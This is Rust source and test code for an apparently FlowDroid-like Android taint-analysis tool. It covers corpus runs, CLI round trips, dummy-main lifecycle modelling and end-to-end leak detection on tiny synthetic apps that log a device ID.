            let loaded = app.load(&mut scratch).expect("suite app parses");
            let sdex: Arc<[u8]> = sdex::encode(&scratch, &loaded.classes).into();
            PreparedJob {
                fingerprint: app_fingerprint(snapshot.fingerprint, &sdex),
                form: Prepared::Droid {
                    manifest: loaded.manifest,
                    layouts: loaded.layouts,
                    resources: loaded.resources,
                    sdex,
                },
            }
        }
        JobKind::Micro(case) => {
            let rt = ResourceTable::new();
            let mut classes = parse_jasm(&mut scratch, &rt, MICRO_ENV).expect("micro env parses");
            classes
                .extend(parse_jasm(&mut scratch, &rt, &case.code).expect("micro case parses"));
            let sdex: Arc<[u8]> = sdex::encode(&scratch, &classes).into();
            PreparedJob {
                fingerprint: app_fingerprint(snapshot.fingerprint, &sdex),
                form: Prepared::Micro { sdex, entry_class: case.entry_class.clone() },
            }
        }
        JobKind::External { manifest, layouts, code } => {
            let refs: Vec<(&str, &str)> =
                layouts.iter().map(|(n, x)| (n.as_str(), x.as_str())).collect();
            let loaded = App::from_parts(&mut scratch, manifest, &refs, code)
                .expect("external app parses");
            let sdex: Arc<[u8]> = sdex::encode(&scratch, &loaded.classes).into();
            PreparedJob {
                fingerprint: app_fingerprint(snapshot.fingerprint, &sdex),
                form: Prepared::Droid {
                    manifest: loaded.manifest,
                    layouts: loaded.layouts,
                    resources: loaded.resources,
                    sdex,
                },
            }
        }
    }
}

/// The outcome of analyzing one corpus entry.
pub struct AppRun {
    /// The job's name.
    pub name: String,
    /// Leaks reported.
    pub leaks: usize,
    /// Deterministic per-app leak report (header + sorted leak lines).
    pub report: String,
    /// Forward path-edge propagations.
    pub forward_propagations: u64,
    /// Backward (alias) path-edge propagations.
    pub backward_propagations: u64,
    /// Distinct facts interned (0 when interning is off).
    pub distinct_facts: usize,
    /// Distinct access paths interned (0 when interning is off).
    pub distinct_aps: usize,
    /// Whole-pipeline duration for this app (parse + model + call
    /// graph + data flow).
    pub total: Duration,
    /// Data-flow (solver) phase duration only.
    pub dataflow: Duration,
    /// Work-stealing scheduler counters (parallel taint engine only).
    pub scheduler: Option<SchedulerStats>,
    /// Tabulation-table density/widening counters (bitset tables only).
    pub fact_tables: Option<TableStats>,
    /// Summary-cache counters (persistent summary store only).
    pub summary_cache: Option<SummaryCacheStats>,
    /// Whether the run aborted before the fixpoint (budget, deadline or
    /// cancellation); the report is then a lower bound.
    pub aborted: bool,
    /// Why the run aborted, when [`AppRun::aborted`] is set.
    pub abort_reason: Option<AbortReason>,
    /// Method bodies the demand-driven frontend decoded for this job
    /// (0 on eager runs, where everything is decoded at parse time).
    pub bodies_materialized: u64,
    /// Method bodies left pending — indexed but never decoded because
    /// the callgraph closure never reached them (0 on eager runs).
    pub bodies_skipped: u64,
    /// Microseconds spent producing the job's private program from the
    /// shared platform snapshot (copy-on-write overlay on lazy runs; 0
    /// on eager runs, which build the platform from scratch).
    pub platform_clone_us: u64,
    /// Whether the job's analysis setup came from a callgraph cache:
    /// `None` when no cache was offered, else hit (`true`) / miss.
    pub cg_cache_hit: Option<bool>,
}

impl AppRun {
    /// Everything before the data-flow phase: parse/decode, entry-point
    /// model, dummy main and call-graph construction.
    pub fn setup(&self) -> Duration {
        self.total.saturating_sub(self.dataflow)
    }
}

/// Renders the deterministic per-app leak report: one header line plus
/// one sorted line per leak (`source line -> sink line  taint`).
fn leak_report(name: &str, results: &InfoflowResults, p: &Program) -> String {
    use std::fmt::Write;
    let mut out = String::new();
    writeln!(out, "== {name}: {} leak(s)", results.leak_count()).unwrap();
    let mut lines: Vec<String> = results
        .leaks
        .iter()
        .map(|l| format!("  {} -> {}  {}", l.source_line(p), l.sink_line(p), l.taint))
        .collect();
    lines.sort();
    for line in lines {
        writeln!(out, "{line}").unwrap();
    }
    out
}

/// Analyzes one corpus job with `config` (including any configured
/// abort handle / summary cache) and returns its outcome. This is the
/// unit the analysis daemon schedules on its worker pool.
///
/// With `config.lazy_frontend` set the job runs through
/// [`run_single_lazy`] against the process-wide platform snapshot;
/// leak reports are byte-identical either way.
pub fn run_single(job: &CorpusJob, config: &InfoflowConfig) -> AppRun {
    if config.lazy_frontend {
        return run_single_lazy(job, config, shared_platform_snapshot(), None);
    }
    let start = Instant::now();
    let (results, report) = match &job.kind {
        JobKind::Droid(app) => {
            let mut p = Program::new();
            let platform = install_platform(&mut p);
            let loaded = app.load(&mut p).expect("suite app parses");
            let sources = SourceSinkManager::default_android();
            let wrapper = TaintWrapper::default_rules();
            let analysis = Infoflow::new(&sources, &wrapper, config)
                .analyze_app(&mut p, &platform, &loaded, "corpus");
            let report = leak_report(&job.name, &analysis.results, &p);
            (analysis.results, report)
        }
        JobKind::Micro(case) => {
            let mut p = Program::new();
            install_platform(&mut p);
            let rt = ResourceTable::new();
            parse_jasm(&mut p, &rt, MICRO_ENV).expect("micro env parses");
            parse_jasm(&mut p, &rt, &case.code).expect("micro case parses");
            let sources = SourceSinkManager::parse(MICRO_DEFS).expect("micro defs parse");
            let wrapper = TaintWrapper::default_rules();
            let entry = p.find_method(&case.entry_class, "main").expect("micro entry");
            let results = Infoflow::new(&sources, &wrapper, config).run(&p, &[entry]);
            let report = leak_report(&job.name, &results, &p);
            (results, report)
        }
        JobKind::External { manifest, layouts, code } => {
            let mut p = Program::new();
            let platform = install_platform(&mut p);
            let refs: Vec<(&str, &str)> =
                layouts.iter().map(|(n, x)| (n.as_str(), x.as_str())).collect();
            let loaded =
                App::from_parts(&mut p, manifest, &refs, code).expect("external app parses");
            let sources = SourceSinkManager::default_android();
            let wrapper = TaintWrapper::default_rules();
            let analysis = Infoflow::new(&sources, &wrapper, config)
                .analyze_app(&mut p, &platform, &loaded, "corpus");
            let report = leak_report(&job.name, &analysis.results, &p);
            (analysis.results, report)
        }
    };
    finish_run(job, start, results, report, 0, 0, 0, None)
}

/// Analyzes one corpus job through the demand-driven frontend: the job
/// program starts as a copy-on-write overlay over `snapshot`'s shared
/// platform base (no platform rebuild, no deep clone), app code is
/// installed via lazy SDEX decode, and only callgraph-reachable method
/// bodies are materialized. This is the warm path the analysis daemon
/// runs per job.
///
/// When `cg_cache` is given, the per-app entry-point model, reachable
/// closure and callgraph are served from (and recorded into) it, keyed
/// by job name and validated against the app+platform fingerprint; leak
/// reports are byte-identical with or without the cache.
pub fn run_single_lazy(
    job: &CorpusJob,
    config: &InfoflowConfig,
    snapshot: &PlatformSnapshot,
    cg_cache: Option<&CgCache>,
) -> AppRun {
    run_single_lazy_impl(job, config, snapshot, cg_cache, false)
}

/// Like [`run_single_lazy`], but deep-clones the platform program
/// instead of overlaying it — the comparison path determinism tests use
/// to prove the overlay representation cannot influence results.
pub fn run_single_lazy_deep_clone(
    job: &CorpusJob,
    config: &InfoflowConfig,
    snapshot: &PlatformSnapshot,
) -> AppRun {
    run_single_lazy_impl(job, config, snapshot, None, true)
}

fn run_single_lazy_impl(
    job: &CorpusJob,
    config: &InfoflowConfig,
    snapshot: &PlatformSnapshot,
    cg_cache: Option<&CgCache>,
    deep_clone: bool,
) -> AppRun {
    let start = Instant::now();
    let prepared = prepared_for(job, snapshot);
    let clone_start = Instant::now();
    let mut p = if deep_clone { snapshot.deep_program() } else { snapshot.overlay_program() };
    let platform_clone_us = u64::try_from(clone_start.elapsed().as_micros()).unwrap_or(u64::MAX);
    let mut cache_hit = None;
    let (results, report) = match &prepared.form {
        Prepared::Droid { manifest, layouts, resources, sdex } => {
            let classes =
                sdex::decode_lazy(&mut p, sdex.clone()).expect("prepared sdex image loads");
            let loaded = App {
                manifest: manifest.clone(),
                layouts: layouts.clone(),
                resources: resources.clone(),
                classes,
            };
            let sources = SourceSinkManager::default_android();
            let wrapper = TaintWrapper::default_rules();
            let infoflow = Infoflow::new(&sources, &wrapper, config);
            let analysis = match cg_cache {
                Some(cache) => {
                    let (analysis, hit) = infoflow.analyze_app_cached(
                        &mut p,
                        &snapshot.info,
                        &loaded,
                        "corpus",
                        cache,
                        &job.name,
                        prepared.fingerprint,
                    );
                    cache_hit = Some(hit);
                    analysis
                }
                None => infoflow.analyze_app(&mut p, &snapshot.info, &loaded, "corpus"),
            };
            let report = leak_report(&job.name, &analysis.results, &p);
            (analysis.results, report)
        }
        Prepared::Micro { sdex, entry_class } => {
            sdex::decode_lazy(&mut p, sdex.clone()).expect("prepared sdex image loads");
            let sources = SourceSinkManager::parse(MICRO_DEFS).expect("micro defs parse");
            let wrapper = TaintWrapper::default_rules();
            let entry = p.find_method(entry_class, "main").expect("micro entry");
            let infoflow = Infoflow::new(&sources, &wrapper, config);
            let results = match cg_cache {
                Some(cache) => {
                    let (results, hit) = infoflow.run_demand_cached(
                        &mut p,
                        &[entry],
                        cache,
                        &job.name,
                        prepared.fingerprint,
                    );
                    cache_hit = Some(hit);
                    results
                }
                None => infoflow.run_demand(&mut p, &[entry]),
            };
            let report = leak_report(&job.name, &results, &p);
            (results, report)
        }
    };
    let materialized = p.bodies_materialized();
    let skipped = p.pending_body_count() as u64;
    finish_run(job, start, results, report, materialized, skipped, platform_clone_us, cache_hit)
}

#[allow(clippy::too_many_arguments)]
fn finish_run(
    job: &CorpusJob,
    start: Instant,
    results: InfoflowResults,
    report: String,
    bodies_materialized: u64,
    bodies_skipped: u64,
    platform_clone_us: u64,
    cg_cache_hit: Option<bool>,
) -> AppRun {
    AppRun {
        name: job.name.clone(),
        leaks: results.leak_count(),
        report,
        forward_propagations: results.forward_propagations,
        backward_propagations: results.backward_propagations,
        distinct_facts: results.distinct_facts,
        distinct_aps: results.distinct_aps,
        total: start.elapsed(),
        dataflow: results.duration,
        scheduler: results.scheduler.clone(),
        fact_tables: results.fact_tables,
        summary_cache: results.summary_cache.clone(),
        aborted: results.aborted,
        abort_reason: results.abort_reason,
        bodies_materialized,
        bodies_skipped,
        platform_clone_us,
        cg_cache_hit,
    }
}

/// The outcome of one corpus run.
pub struct CorpusRun {
    /// Per-app outcomes, sorted by app name.
    pub apps: Vec<AppRun>,
    /// Wall-clock time of the whole fan-out.
    pub wall: Duration,
    /// Worker threads used.
    pub threads: usize,
}

impl CorpusRun {
    /// Total leaks across the corpus.
    pub fn total_leaks(&self) -> usize {
        self.apps.iter().map(|a| a.leaks).sum()
    }

    /// Total (forward, backward) propagations across the corpus.
    pub fn total_propagations(&self) -> (u64, u64) {
        let fw = self.apps.iter().map(|a| a.forward_propagations).sum();
        let bw = self.apps.iter().map(|a| a.backward_propagations).sum();
        (fw, bw)
    }

    /// Sum of per-app whole-pipeline durations (CPU-ish time; with one
    /// thread this approximates [`CorpusRun::wall`]).
    pub fn total_app_time(&self) -> Duration {
        self.apps.iter().map(|a| a.total).sum()
    }

    /// Sum of per-app data-flow phase durations.
    pub fn total_dataflow_time(&self) -> Duration {
        self.apps.iter().map(|a| a.dataflow).sum()
    }

    /// Total distinct facts interned across the corpus.
    pub fn total_distinct_facts(&self) -> usize {
        self.apps.iter().map(|a| a.distinct_facts).sum()
    }

    /// Total distinct access paths interned across the corpus.
    pub fn total_distinct_aps(&self) -> usize {
        self.apps.iter().map(|a| a.distinct_aps).sum()
    }

    /// Total method bodies (materialized, skipped) across the corpus —
    /// both zero unless the demand-driven frontend ran.
    pub fn total_bodies(&self) -> (u64, u64) {
        let m = self.apps.iter().map(|a| a.bodies_materialized).sum();
        let s = self.apps.iter().map(|a| a.bodies_skipped).sum();
        (m, s)
    }

    /// Tabulation-table density/widening counters summed across the
    /// corpus (`None` when no app ran on bitset tables).
    pub fn fact_table_totals(&self) -> Option<TableStats> {
        let mut total: Option<TableStats> = None;
        for s in self.apps.iter().filter_map(|a| a.fact_tables.as_ref()) {
            total.get_or_insert_with(TableStats::default).merge(s);
        }
        total
    }

    /// Summary-cache counters summed across the corpus (`None` when no
    /// app ran with a persistent summary store). `store_methods` takes
    /// the maximum rather than the sum — every app sees the same
    /// store — and the first load error encountered is kept.
    pub fn summary_cache_totals(&self) -> Option<SummaryCacheStats> {
        let mut total: Option<SummaryCacheStats> = None;
        for s in self.apps.iter().filter_map(|a| a.summary_cache.as_ref()) {
            let t = total.get_or_insert_with(SummaryCacheStats::default);
            t.hits += s.hits;
            t.misses += s.misses;
            t.stale += s.stale;
            t.recorded += s.recorded;
            t.store_methods = t.store_methods.max(s.store_methods);
            if t.load_error.is_none() {
                t.load_error = s.load_error.clone();
            }
        }
        total
    }

    /// Work-stealing scheduler counters summed across the corpus
    /// (`None` when no app ran the parallel taint engine). Per-shard
    /// pushes are added element-wise, so shard occupancy aggregates
    /// too.
    pub fn scheduler_totals(&self) -> Option<SchedulerStats> {
        let mut total: Option<SchedulerStats> = None;
        for s in self.apps.iter().filter_map(|a| a.scheduler.as_ref()) {
            let t = total.get_or_insert_with(|| SchedulerStats {
                shards: s.shards,
                ..SchedulerStats::default()
            });
            t.pushed += s.pushed;
            t.steals += s.steals;
            t.claims += s.claims;
            if t.pushed_per_shard.len() < s.pushed_per_shard.len() {
                t.pushed_per_shard.resize(s.pushed_per_shard.len(), 0);
            }
            for (i, c) in s.pushed_per_shard.iter().enumerate() {
                t.pushed_per_shard[i] += c;
            }
        }
        total
    }
}

/// Analyzes every job of `jobs` with `config`, fanning apps across
/// `threads` workers (work is claimed from a shared counter, so large
/// apps don't serialize behind one worker). Results come back sorted
/// by app name regardless of completion order.
pub fn run_corpus(jobs: &[CorpusJob], config: &InfoflowConfig, threads: usize) -> CorpusRun {
    let threads = threads.max(1);
    let start = Instant::now();
    let next = AtomicUsize::new(0);
    let results: Mutex<Vec<AppRun>> = Mutex::new(Vec::with_capacity(jobs.len()));
    std::thread::scope(|scope| {
        for _ in 0..threads {
            scope.spawn(|| {
                let mut local = Vec::new();
                loop {
                    let i = next.fetch_add(1, Ordering::Relaxed);
                    if i >= jobs.len() {
                        break;
                    }
                    local.push(run_single(&jobs[i], config));
                }
                results.lock().unwrap().extend(local);
            });
        }
    });
    let mut apps = results.into_inner().unwrap();
    apps.sort_by(|a, b| a.name.cmp(&b.name));
    CorpusRun { apps, wall: start.elapsed(), threads }
}

/// Concatenates the per-app leak reports (already name-sorted):
/// byte-for-byte identical across thread counts and repeat runs.
pub fn corpus_report(run: &CorpusRun) -> String {
    run.apps.iter().map(|a| a.report.as_str()).collect()
}

/// Runs the corpus twice against the persistent summary store in
/// `cache_dir`: a *cold* pass that computes (and then flushes) every
/// end summary, followed by a *warm* pass that replays them. The cold
/// pass consumes nothing from the store it is populating (the store's
/// visible/fresh split guarantees this), so its leak report is
/// bit-identical to an uncached run; the warm pass must reproduce the
/// same report while skipping the tabulation work the cache covers.
pub fn run_corpus_cold_warm(
    jobs: &[CorpusJob],
    config: &InfoflowConfig,
    threads: usize,
    cache_dir: &Path,
) -> (CorpusRun, CorpusRun) {
    let mut config = config.clone();
    config.summary_cache = Some(cache_dir.to_path_buf());
    let cold = run_corpus(jobs, &config, threads);
    flowdroid_core::flush_summary_cache(cache_dir).expect("flush summary cache");
    let warm = run_corpus(jobs, &config, threads);
    (cold, warm)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn corpus_has_unique_sorted_names_after_run() {
        let jobs = full_corpus();
        let mut names: Vec<&str> = jobs.iter().map(|j| j.name.as_str()).collect();
        let before = names.len();
        names.sort();
        names.dedup();
        assert_eq!(names.len(), before, "corpus job names must be unique");
        assert!(before > 100, "corpus should cover both suites, got {before}");
    }

    #[test]
    fn lazy_run_matches_eager_on_slice() {
        let jobs: Vec<CorpusJob> = full_corpus()
            .into_iter()
            .filter(|j| j.name.contains("Basic1") || j.name == "insecurebank")
            .collect();
        assert!(jobs.len() >= 2);
        let eager_cfg = InfoflowConfig::default();
        let lazy_cfg = InfoflowConfig::default().with_lazy_frontend(true);
        for job in &jobs {
            let eager = run_single(job, &eager_cfg);
            let lazy = run_single(job, &lazy_cfg);
            assert_eq!(eager.report, lazy.report, "{} diverged", job.name);
            assert_eq!(eager.bodies_materialized, 0);
            assert!(lazy.bodies_materialized > 0, "{} decoded nothing", job.name);
        }
    }

    #[test]
    fn single_thread_run_reports_leaks() {
        // A tiny slice keeps this unit test fast; the full-corpus
        // determinism sweep lives in tests/determinism.rs.
        let jobs: Vec<CorpusJob> =
            full_corpus().into_iter().filter(|j| j.name.contains("Basic1")).collect();
        assert!(!jobs.is_empty());
        let run = run_corpus(&jobs, &InfoflowConfig::default(), 1);
        assert_eq!(run.apps.len(), jobs.len());
        let report = corpus_report(&run);
        assert!(report.contains("leak(s)"));
    }
}
