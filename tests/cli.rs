//! Integration tests for the `flowdroid` CLI binary: pack, disas and
//! analyze round trips on a temporary app directory.

use std::path::PathBuf;
use std::process::Command;

const MANIFEST: &str = r#"<manifest package="cliapp">
  <application>
    <activity android:name=".Main">
      <intent-filter><action android:name="android.intent.action.MAIN"/></intent-filter>
    </activity>
  </application>
</manifest>"#;

const CODE: &str = r#"
class cliapp.Main extends android.app.Activity {
  method onCreate(b: android.os.Bundle) -> void {
    let o: java.lang.Object
    let tm: android.telephony.TelephonyManager
    let id: java.lang.String
    o = virtualinvoke this.<android.content.Context: java.lang.Object getSystemService(java.lang.String)>("phone")
    tm = (android.telephony.TelephonyManager) o
    id = virtualinvoke tm.<android.telephony.TelephonyManager: java.lang.String getDeviceId()>()
    staticinvoke <android.util.Log: int i(java.lang.String,java.lang.String)>("T", id)
    return
  }
}
"#;

const CLEAN_CODE: &str = r#"
class cliapp.Main extends android.app.Activity {
  method onCreate(b: android.os.Bundle) -> void {
    staticinvoke <android.util.Log: int i(java.lang.String,java.lang.String)>("T", "nothing")
    return
  }
}
"#;

fn bin() -> Command {
    Command::new(env!("CARGO_BIN_EXE_flowdroid"))
}

fn make_app(dir: &std::path::Path, code: &str) {
    std::fs::create_dir_all(dir).unwrap();
    std::fs::write(dir.join("AndroidManifest.xml"), MANIFEST).unwrap();
    std::fs::write(dir.join("classes.jasm"), code).unwrap();
}

fn temp_dir(tag: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("flowdroid-cli-test-{tag}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    dir
}

#[test]
fn analyze_dir_reports_the_leak() {
    let dir = temp_dir("leaky");
    make_app(&dir, CODE);
    let out = bin().args(["analyze"]).arg(&dir).output().unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.contains("1 leak(s) found"), "{stdout}");
    assert_eq!(out.status.code(), Some(2), "leaks signal exit code 2");
    std::fs::remove_dir_all(&dir).ok();
}

#[test]
fn analyze_clean_app_exits_zero() {
    let dir = temp_dir("clean");
    make_app(&dir, CLEAN_CODE);
    let out = bin().args(["analyze"]).arg(&dir).output().unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.contains("0 leak(s) found"), "{stdout}");
    assert_eq!(out.status.code(), Some(0));
    std::fs::remove_dir_all(&dir).ok();
}

#[test]
fn pack_then_analyze_archive() {
    let dir = temp_dir("pack");
    make_app(&dir, CODE);
    let rpk = dir.join("app.rpk");
    let out = bin().args(["pack"]).arg(&dir).arg("-o").arg(&rpk).output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let out = bin().args(["analyze"]).arg(&rpk).output().unwrap();
    assert!(String::from_utf8_lossy(&out.stdout).contains("1 leak(s) found"));
    std::fs::remove_dir_all(&dir).ok();
}

#[test]
fn disas_emits_reparseable_jasm() {
    let dir = temp_dir("disas");
    make_app(&dir, CODE);
    let out = bin().args(["disas"]).arg(&dir).output().unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("class cliapp.Main extends android.app.Activity"), "{text}");
    assert!(text.contains("getDeviceId"), "{text}");
    // The emitted code re-parses.
    let mut p = flowdroid::ir::Program::new();
    flowdroid::android::install_platform(&mut p);
    let rt = flowdroid::frontend::layout::ResourceTable::new();
    flowdroid::frontend::parse_jasm(&mut p, &rt, &text).expect("disassembly re-parses");
    std::fs::remove_dir_all(&dir).ok();
}

#[test]
fn analyze_honors_custom_sources_file() {
    let dir = temp_dir("custom");
    make_app(&dir, CLEAN_CODE);
    // Treat Log.i's tag as a sink of everything — now even the clean
    // app's constant doesn't leak (constants are never tainted), so
    // adding a bogus *source* that matches nothing changes nothing.
    let defs = dir.join("extra.defs");
    std::fs::write(&defs, "<no.Such: java.lang.String thing()> -> _SOURCE_\n").unwrap();
    let out = bin()
        .args(["analyze"])
        .arg(&dir)
        .arg("--sources")
        .arg(&defs)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    std::fs::remove_dir_all(&dir).ok();
}

#[test]
fn bad_arguments_fail_cleanly() {
    let out = bin().args(["analyze"]).output().unwrap();
    assert_eq!(out.status.code(), Some(1));
    let out = bin().args(["frobnicate"]).output().unwrap();
    assert_eq!(out.status.code(), Some(1));
    let out = bin().args(["analyze", "/no/such/path"]).output().unwrap();
    assert_eq!(out.status.code(), Some(1));
    let out = bin().output().unwrap();
    assert_eq!(out.status.code(), Some(0), "bare invocation prints usage");
}
