//! E6 — the dummy-main CFG has the shape of the paper's Figure 1:
//! opaque branches make every lifecycle transition feasible, callbacks
//! run between onResume and onPause, components interleave arbitrarily.

use flowdroid::android::{generate_dummy_main, install_platform, CallbackAssociation, EntryPointModel};
use flowdroid::prelude::*;
use flowdroid::ir::{Cond, Stmt};

const MANIFEST: &str = r#"<manifest package="fig1">
  <application>
    <activity android:name=".Main"/>
    <service android:name=".Svc"/>
  </application>
</manifest>"#;

const CODE: &str = r#"
class fig1.Main extends android.app.Activity {
  method onCreate(b: android.os.Bundle) -> void { return }
  method onStart() -> void { return }
  method onResume() -> void { return }
  method onPause() -> void { return }
  method onStop() -> void { return }
  method onRestart() -> void { return }
  method onDestroy() -> void { return }
  method sendMessage(v: android.view.View) -> void { return }
}
class fig1.Svc extends android.app.Service {
  method onCreate() -> void { return }
  method onDestroy() -> void { return }
}
"#;

const LAYOUT: &str = r#"<L><Button android:id="@+id/b" android:onClick="sendMessage"/></L>"#;

const CODE_WITH_LAYOUT_HOOK: &str = r#"
class fig1.Main extends android.app.Activity {
  method onCreate(b: android.os.Bundle) -> void {
    virtualinvoke this.<android.app.Activity: void setContentView(int)>(@layout/main)
    return
  }
  method onStart() -> void { return }
  method onResume() -> void { return }
  method onPause() -> void { return }
  method onStop() -> void { return }
  method onRestart() -> void { return }
  method onDestroy() -> void { return }
  method sendMessage(v: android.view.View) -> void { return }
}
class fig1.Svc extends android.app.Service {
  method onCreate() -> void { return }
  method onDestroy() -> void { return }
}
"#;

fn build() -> (Program, flowdroid::ir::MethodId) {
    let mut p = Program::new();
    let platform = install_platform(&mut p);
    let app =
        App::from_parts(&mut p, MANIFEST, &[("main", LAYOUT)], CODE_WITH_LAYOUT_HOOK).unwrap();
    let model = EntryPointModel::build(&mut p, &platform, &app, CallbackAssociation::PerComponent);
    let main = generate_dummy_main(&mut p, &platform, &model, "fig1");
    (p, main)
}

#[test]
fn every_lifecycle_method_is_reachable() {
    let (p, main) = build();
    let cg = CallGraph::build(&p, &[main], CgAlgorithm::Cha);
    for name in
        ["onCreate", "onStart", "onResume", "onPause", "onStop", "onRestart", "onDestroy", "sendMessage"]
    {
        let reached = cg
            .reachable_methods()
            .iter()
            .any(|&m| p.str(p.method(m).name()) == name && p.class_name(p.method(m).class()).starts_with("fig1"));
        assert!(reached, "{name} must be reachable from the dummy main");
    }
}

#[test]
fn branches_are_opaque_predicates() {
    let (p, main) = build();
    let body = p.method(main).body().unwrap();
    let mut opaque = 0;
    for s in body.stmts() {
        if let Stmt::If { cond, .. } = s {
            assert!(matches!(cond, Cond::Opaque), "dummy main uses only opaque predicates");
            opaque += 1;
        }
    }
    assert!(opaque >= 5, "selector + lifecycle transitions: {opaque}");
}

#[test]
fn callback_runs_between_resume_and_pause() {
    // Statement order inside the activity block: onResume before the
    // callback invocation, onPause after it.
    let (p, main) = build();
    let body = p.method(main).body().unwrap();
    let printer = flowdroid::ir::ProgramPrinter::new(&p);
    let mut resume_idx = None;
    let mut send_idx = None;
    let mut pause_idx = None;
    for i in 0..body.len() {
        let line = printer.stmt_to_string(main, i);
        if line.contains("onResume") {
            resume_idx = Some(i);
        }
        if line.contains("sendMessage") {
            send_idx = Some(i);
        }
        if line.contains("onPause") {
            pause_idx = Some(i);
        }
    }
    let (r, s, pz) = (resume_idx.unwrap(), send_idx.unwrap(), pause_idx.unwrap());
    assert!(r < s && s < pz, "onResume@{r} < sendMessage@{s} < onPause@{pz}");
}

#[test]
fn restart_loops_back_to_started_state() {
    let (p, main) = build();
    let body = p.method(main).body().unwrap();
    let printer = flowdroid::ir::ProgramPrinter::new(&p);
    // Find the onRestart call; some goto after it must jump backwards.
    let restart = (0..body.len())
        .find(|&i| printer.stmt_to_string(main, i).contains("onRestart"))
        .expect("onRestart call present");
    let jumps_back = (restart..body.len().min(restart + 3)).any(|i| {
        matches!(body.stmt(i), Stmt::Goto { target } if *target < restart)
    });
    assert!(jumps_back, "onRestart is followed by a back edge to the started state");
}

#[test]
fn components_can_repeat_in_any_order() {
    // The component selector is a loop: each component block ends with
    // a goto back to the selector at index 0's mark.
    let mut p = Program::new();
    let platform = install_platform(&mut p);
    let app = App::from_parts(&mut p, MANIFEST, &[], CODE).unwrap();
    let model = EntryPointModel::build(&mut p, &platform, &app, CallbackAssociation::PerComponent);
    assert_eq!(model.components.len(), 2);
    let main = generate_dummy_main(&mut p, &platform, &model, "order");
    let body = p.method(main).body().unwrap();
    let back_edges = body
        .stmts()
        .iter()
        .enumerate()
        .filter(|(i, s)| matches!(s, Stmt::Goto { target } if target < i))
        .count();
    assert!(back_edges >= 2, "each component block loops back: {back_edges}");
}
