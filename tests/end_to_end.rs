//! Cross-crate end-to-end pipeline tests: author in `jasm` → encode to
//! SDEX → package as RPK → unpack → analyze, exercising every pipeline
//! stage of the paper's Figure 4 in one pass.

use flowdroid::android::install_platform;
use flowdroid::frontend::layout::ResourceTable;
use flowdroid::frontend::{rpk::Archive, sdex};
use flowdroid::prelude::*;

const MANIFEST: &str = r#"<manifest package="e2e">
  <application>
    <activity android:name=".Main">
      <intent-filter><action android:name="android.intent.action.MAIN"/></intent-filter>
    </activity>
  </application>
</manifest>"#;

const CODE: &str = r#"
class e2e.Main extends android.app.Activity {
  method onCreate(b: android.os.Bundle) -> void {
    let o: java.lang.Object
    let tm: android.telephony.TelephonyManager
    let id: java.lang.String
    o = virtualinvoke this.<android.content.Context: java.lang.Object getSystemService(java.lang.String)>("phone")
    tm = (android.telephony.TelephonyManager) o
    id = virtualinvoke tm.<android.telephony.TelephonyManager: java.lang.String getDeviceId()>()
    staticinvoke <android.util.Log: int i(java.lang.String,java.lang.String)>("T", id)
    return
  }
}
"#;

fn analyze(program: &mut Program, platform: &flowdroid::android::PlatformInfo, app: &App) -> usize {
    let sources = SourceSinkManager::default_android();
    let wrapper = TaintWrapper::default_rules();
    let config = InfoflowConfig::default();
    Infoflow::new(&sources, &wrapper, &config)
        .analyze_app(program, platform, app, "e2e")
        .results
        .leak_count()
}

#[test]
fn jasm_text_pipeline() {
    let mut p = Program::new();
    let platform = install_platform(&mut p);
    let app = App::from_parts(&mut p, MANIFEST, &[], CODE).unwrap();
    assert_eq!(analyze(&mut p, &platform, &app), 1);
}

#[test]
fn sdex_binary_pipeline() {
    // Author in one program, ship as binary, analyze in another — like
    // compiling an app on one machine and analyzing the APK elsewhere.
    let mut author = Program::new();
    install_platform(&mut author);
    let rt = ResourceTable::new();
    let classes = parse_jasm(&mut author, &rt, CODE).unwrap();
    let image = sdex::encode(&author, &classes);

    let mut archive = Archive::new();
    archive.add("AndroidManifest.xml", MANIFEST.as_bytes());
    archive.add("classes.sdex", image);
    let bytes = archive.to_bytes();

    let mut analyst = Program::new();
    let platform = install_platform(&mut analyst);
    let unpacked = Archive::from_bytes(&bytes).unwrap();
    let app = App::from_archive(&mut analyst, &unpacked).unwrap();
    assert_eq!(analyze(&mut analyst, &platform, &app), 1, "binary route finds the same leak");
}

#[test]
fn rpk_text_pipeline_matches_direct_load() {
    let archive = App::bundle(MANIFEST, &[], CODE);
    let bytes = archive.to_bytes();
    let unpacked = Archive::from_bytes(&bytes).unwrap();
    let mut p = Program::new();
    let platform = install_platform(&mut p);
    let app = App::from_archive(&mut p, &unpacked).unwrap();
    assert_eq!(analyze(&mut p, &platform, &app), 1);
}

#[test]
fn facade_prelude_compiles_the_quickstart() {
    // The doctest on the crate root is the canonical quickstart; this
    // keeps it green as a plain test as well.
    let mut program = Program::new();
    let platform = install_platform(&mut program);
    let app = App::from_parts(&mut program, MANIFEST, &[], CODE).unwrap();
    let sources = SourceSinkManager::default_android();
    let wrapper = TaintWrapper::default_rules();
    let config = InfoflowConfig::default();
    let analysis = Infoflow::new(&sources, &wrapper, &config)
        .analyze_app(&mut program, &platform, &app, "facade");
    assert_eq!(analysis.results.leak_count(), 1);
    assert!(!analysis.model.components.is_empty());
}
