//! Property-based metamorphic tests for the whole analysis: soundness
//! on constructed flows, invariance under semantics-preserving program
//! edits, and determinism.

use flowdroid::frontend::layout::ResourceTable;
use flowdroid::prelude::*;
use proptest::prelude::*;

const ENV: &str = r#"
class Env {
  static native method source() -> java.lang.String
  static native method sink(s: java.lang.String) -> void
}
"#;

const DEFS: &str = "\
<Env: java.lang.String source()> -> _SOURCE_\n\
<Env: void sink(java.lang.String)> -> _SINK_\n";

fn analyze(code: &str) -> usize {
    let mut p = Program::new();
    flowdroid::android::install_platform(&mut p);
    let rt = ResourceTable::new();
    parse_jasm(&mut p, &rt, ENV).unwrap();
    parse_jasm(&mut p, &rt, code).unwrap_or_else(|e| panic!("{e}\n{code}"));
    let sources = SourceSinkManager::parse(DEFS).unwrap();
    let wrapper = TaintWrapper::default_rules();
    let config = InfoflowConfig::default();
    let main = p.find_method("P", "main").unwrap();
